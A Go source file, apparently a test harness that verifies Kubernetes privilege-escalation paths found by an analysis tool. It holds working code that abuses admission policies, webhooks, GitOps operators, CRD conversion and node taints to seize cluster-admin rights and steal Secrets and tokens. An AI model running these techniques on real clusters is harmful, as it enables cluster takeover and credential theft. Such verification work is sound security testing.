	err := s.do("POST", at(group, "mutatingadmissionpolicies", "", ""), object{"metadata": object{"name": name}, "spec": object{
		"matchConstraints": object{"resourceRules": []object{{"apiGroups": []string{rbacGroup}, "apiVersions": []string{"*"},
			"operations": []string{"CREATE"}, "resources": []string{"clusterrolebindings"}}}},
		"reinvocationPolicy": "Never",
		"mutations": []object{{"patchType": "JSONPatch", "jsonPatch": object{"expression": fmt.Sprintf(
			`[JSONPatch{op: "add", path: "/subjects/-", value: Object.subjects{apiGroup: %q, kind: "User", name: %q}}]`, rbacGroup, s.name)}}},
	}}, nil)
	if err != nil {
		return s, err
	}
	a.forget(at(group, "mutatingadmissionpolicybindings", "", name))
	if err := s.do("POST", at(group, "mutatingadmissionpolicybindings", "", ""), object{"metadata": object{"name": name}, "spec": object{"policyName": name}}, nil); err != nil {
		return s, err
	}
	return a.promoted(s, h)
}

// promoted has the administrator bind somebody else to all rights, until that
// gives them to the attacker too.
func (a *attack) promoted(s self, h report.Hop) (self, error) {
	err := a.wait(func() error {
		name := a.fresh("innocent")
		a.forget(at(rbacGroup, "clusterrolebindings", "", name))
		var b unstructured.Unstructured
		err := a.admin.do("POST", at(rbacGroup, "clusterrolebindings", "", ""), object{
			"metadata": object{"name": name}, "roleRef": object{"apiGroup": rbacGroup, "kind": "ClusterRole", "name": "cluster-admin"},
			"subjects": []object{{"apiGroup": rbacGroup, "kind": "User", "name": "trusted"}},
		}, &b.Object)
		if err != nil {
			return err
		}
		if subjects, _, _ := unstructured.NestedSlice(b.Object, "subjects"); len(subjects) < 2 {
			return fmt.Errorf("%w: the binding was not changed", errNothing)
		}
		return nil
	})
	if err != nil {
		return s, err
	}
	return a.come(s, h)
}

func (a *attack) listen(s self, h report.Hop) (self, error) {
	p, ns := permission(h), strings.TrimPrefix(h.To, "secrets:")
	p.APIGroup, p.Resource = "admissionregistration.k8s.io", "validatingwebhookconfigurations"
	err := a.webhook(s, p, object{"apiGroups": []string{""}, "apiVersions": []string{"*"},
		"operations": []string{"CREATE"}, "resources": []string{"secrets"}})
	if err != nil {
		return s, err
	}
	err = a.wait(func() error {
		name := a.fresh("written")
		a.forget(at("", "secrets", ns, name))
		err := a.admin.do("POST", at("", "secrets", ns, ""), object{"metadata": object{"name": name}, "stringData": object{"value": treasure(ns)}}, nil)
		if err != nil {
			return err
		}
		a.hook.mutex.Lock()
		defer a.hook.mutex.Unlock()
		if s.secret = a.hook.seen[ns]; s.secret == "" {
			return fmt.Errorf("%w: the Secret was not sent", errNothing)
		}
		delete(a.hook.seen, ns)
		return nil
	})
	return s, err
}

// An operator is one of the examples: the resource whose objects it
// applies, and whether it looks at its own namespace only.
type operator struct {
	resource string
	confined bool
}

func operatorOf(account string) operator {
	for prefix, p := range map[string]operator{
		"argocd-application-controller": {"applications.argoproj.io", true},
		"kustomize-controller":          {"kustomizations.kustomize.toolkit.fluxcd.io", false},
		"helm-controller":               {"helmreleases.helm.toolkit.fluxcd.io", false},
		"provider-kubernetes":           {"objects.kubernetes.crossplane.io", false},
	} {
		if strings.HasPrefix(account, prefix) {
			return p
		}
	}
	return operator{}
}

// gift are manifests by which an operator gives somebody its token.
func (s self) gift(ns, account, name string) []object {
	return []object{
		{"apiVersion": rbacGroup + "/v1", "kind": "Role", "metadata": object{"name": name, "namespace": ns},
			"rules": []object{{"apiGroups": []string{""}, "resources": []string{"serviceaccounts/token"}, "verbs": []string{"create"}, "resourceNames": []string{account}}}},
		{"apiVersion": rbacGroup + "/v1", "kind": "RoleBinding", "metadata": object{"name": name, "namespace": ns},
			"roleRef": object{"apiGroup": rbacGroup, "kind": "Role", "name": name}, "subjects": []object{s.me()}},
	}
}

// operate writes an object for an operator.
func (a *attack) operate(s self, h report.Hop) (self, error) {
	ns, name := account(h.To)
	gift := a.fresh("gift")
	body := object{"spec": object{"manifests": s.gift(ns, name, gift)}}
	group, resource := split(operatorOf(name).resource)
	p := permission(h)
	if p.Verb == "" {
		p = report.Permission{Verb: "create", APIGroup: group, Resource: resource, Namespace: where(h)}
	}
	path := at(p.APIGroup, p.Resource, p.Namespace, "")
	if p.Verb == "create" {
		o := a.fresh("attack")
		path += "/" + o
		body["metadata"], body["apiVersion"], body["kind"] = object{"name": o}, p.APIGroup+"/v1", a.kindOf(p)
		a.forget(path)
		if err := s.do("POST", at(p.APIGroup, p.Resource, p.Namespace, ""), body, nil); err != nil {
			return s, err
		}
	} else {
		var list unstructured.UnstructuredList
		if err := a.admin.do("GET", path, nil, &list); err != nil {
			return s, err
		}
		if len(list.Items) == 0 {
			return s, errors.New("there is nothing to change")
		}
		path += "/" + list.Items[0].GetName()
		a.restore(path, "spec")
		if err := s.do("PATCH", path, body, nil); err != nil {
			return s, err
		}
	}
	return a.applies(s, path, gift, h)
}

func split(definition string) (group, resource string) {
	resource, group, _ = strings.Cut(definition, ".")
	return group, resource
}

func (a *attack) kindOf(p report.Permission) string {
	for _, o := range a.objects {
		if o.GetKind() == "CustomResourceDefinition" && o.GetName() == p.Resource+"."+p.APIGroup {
			kind, _, _ := unstructured.NestedString(o.Object, "spec", "names", "kind")
			return kind
		}
	}
	return ""
}

// applies plays an operator: with the token of its ServiceAccount it reads an
// object, as the program would find it, and applies what is in it.
func (a *attack) applies(s self, path, gift string, h report.Hop) (self, error) {
	ns, name := account(h.To)
	program, err := a.start(userName(ns, name))
	if err != nil {
		return s, err
	}
	if operatorOf(name).confined && !strings.Contains(path, "/namespaces/"+ns+"/") {
		return s, fmt.Errorf("%w: %s reads no objects of other namespaces", errNothing, name)
	}
	var o unstructured.Unstructured
	if err := program.do("GET", path, nil, &o.Object); err != nil {
		return s, err
	}
	if as := a.impersonates(ns, name); as != "" {
		program.config = rest.CopyConfig(program.config)
		program.config.Impersonate.UserName = userName(o.GetNamespace(), as)
	}
	manifests, _, _ := unstructured.NestedSlice(o.Object, "spec", "manifests")
	if len(manifests) == 0 {
		return s, fmt.Errorf("%w: the operator reads no manifests", errNothing)
	}
	for _, m := range manifests {
		u := unstructured.Unstructured{Object: m.(object)}
		to := at(u.GroupVersionKind().Group, plural(u.GetKind()), u.GetNamespace(), "")
		a.forget(to + "/" + gift)
		if err := program.do("POST", to, m, nil); err != nil {
			return s, err
		}
	}
	return a.come(s, h)
}

// impersonates is the ServiceAccount that an operator has been told to act as.
func (a *attack) impersonates(ns, account string) string {
	for _, o := range a.programs {
		containers, _, _ := unstructured.NestedSlice(o.Object, "spec", "template", "spec", "containers")
		if o.GetNamespace() != ns || o.GetName() != account || len(containers) == 0 {
			continue
		}
		args, _, _ := unstructured.NestedStringSlice(containers[0].(object), "args")
		for _, arg := range args {
			if as, ok := strings.CutPrefix(arg, "--default-service-account="); ok {
				return as
			}
		}
	}
	return ""
}

// convert has an operator's definition converted by the attacker: a second
// version is the one that is stored, so that what the operator writes from then
// on is converted as it is read.
func (a *attack) convert(s self, h report.Hop) (self, error) {
	ns, name := account(h.To)
	definition := permission(h).Name
	if definition == "" {
		definition = operatorOf(name).resource
	}
	group, resource := split(definition)
	innocent := at(group, resource, ns, "innocent")
	program, err := a.start(userName(ns, name))
	if err != nil {
		return s, err
	}
	kind := a.kindOf(report.Permission{APIGroup: group, Resource: resource})
	a.forget(innocent)
	if err := program.do("POST", at(group, resource, ns, ""), object{"apiVersion": group + "/v1", "kind": kind, "metadata": object{"name": "innocent"}, "spec": object{}}, nil); err != nil && !apierrors.IsNotFound(err) {
		return s, err
	}
	gift := a.fresh("gift")
	a.hook.mutex.Lock()
	a.hook.manifests = s.gift(ns, name, gift)
	a.hook.mutex.Unlock()
	version := func(name string, storage bool) object {
		return object{"name": name, "served": true, "storage": storage, "schema": object{"openAPIV3Schema": keepAll()}}
	}
	crd := at("apiextensions.k8s.io", "customresourcedefinitions", "", definition)
	a.later(func() {
		a.must(a.admin.do("PATCH", crd, object{"spec": object{"conversion": object{"strategy": "None", "webhook": nil},
			"versions": []object{version("v1", true), version("v2", false)}}}, nil))
	})
	err = s.do("PATCH", crd, object{"spec": object{
		"versions": []object{version("v1", false), version("v2", true)},
		"conversion": object{"strategy": "Webhook", "webhook": object{"conversionReviewVersions": []string{"v1"},
			"clientConfig": object{"url": a.hook.url, "caBundle": a.hook.ca}}},
	}}, nil)
	if err != nil {
		return s, err
	}
	var next self
	err = a.wait(func() error {
		// As an operator does, which notes when it looked.
		if err := program.do("PATCH", innocent, object{"metadata": object{"annotations": object{"seen": a.fresh("at")}}}, nil); err != nil {
			return err
		}
		var err error
		next, err = a.applies(s, innocent, gift, h)
		return err
	})
	return next, err
}

// nodeToken is what a kubelet gets for a pod on its node.
func (a *attack) nodeToken(s self, h report.Hop) (self, error) {
	ns, name := account(h.To)
	pods, err := a.pods(ns)
	if err != nil {
		return s, err
	}
	for _, p := range pods {
		if p.Spec.ServiceAccountName == name && (s.node == "" || p.Spec.NodeName == s.node) {
			token, err := s.tokenOf(&p)
			return a.bearer(h.To, token), err
		}
	}
	return s, fmt.Errorf("no pod of %s is on node %s", h.To, s.node)
}

// steer drives the pods of an account to the node that the attacker is root on:
// where they are, they may not stay.
func (a *attack) steer(s self, h report.Hop) (self, error) {
	ns, name := account(h.To)
	root := report.Hop{From: h.From, To: "node", Technique: "exec"}
	if len(h.Also) > 0 {
		root.Permission = &h.Also[0].Permission
	}
	s2, err := a.connect(s, root)
	if err != nil {
		return s, err
	}
	if err := a.scatter(ns, name, s2.node); err != nil {
		return s, err
	}
	for node := range a.nodes {
		if node == s2.node {
			continue
		}
		path := at("", "nodes", "", node)
		a.later(func() { a.admin.do("PATCH", path, object{"spec": object{"taints": nil}}, nil) })
		if err := s.do("PATCH", path, object{"spec": object{"taints": []object{{"key": "attack", "effect": "NoExecute"}}}}, nil); err != nil {
			return s, err
		}
	}
	var next self
	err = a.wait(func() (err error) { next, err = a.nodeToken(s2, h); return err })
	return next, err
}

// scatter sees to it that the pods of an account are not on a node.
func (a *attack) scatter(ns, name, node string) error {
	path := at("", "nodes", "", node)
	if err := a.admin.do("PATCH", path, object{"spec": object{"unschedulable": true}}, nil); err != nil {
		return err
	}
	defer a.admin.do("PATCH", path, object{"spec": object{"unschedulable": nil}}, nil)
	return a.eventually(func() error {
		pods, err := a.pods(ns)
		elsewhere := false
		for _, p := range pods {
			switch {
			case p.Spec.ServiceAccountName != name:
			case p.Spec.NodeName == node:
				a.admin.do("DELETE", at("", "pods", ns, p.Name), object{"gracePeriodSeconds": 0}, nil)
			case p.Spec.NodeName != "":
				elsewhere = true
			}
		}
		if err == nil && !elsewhere {
			err = again{errors.New("no pod on another node")}
		}
		return err
	})
}

// controlPlane takes the authority's key, which is on that node's disk, for read.
func (a *attack) controlPlane(s self, h report.Hop) (self, error) {
	if s.node == "" || s.node != a.anyMaster() {
		return s, fmt.Errorf("%w: node %q is not of the control plane", errNothing, s.node)
	}
	return a.come(self{name: "master", config: a.User(a.t, "master", "system:masters").Config()}, h)
}

func (a *attack) anyMaster() string {
	for _, o := range a.objects {
		if _, ok := o.GetLabels()["node-role.kubernetes.io/control-plane"]; ok {
			return o.GetName()
		}
	}
	return ""
}

func pemOf(c *x509.Certificate) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: c.Raw})
}
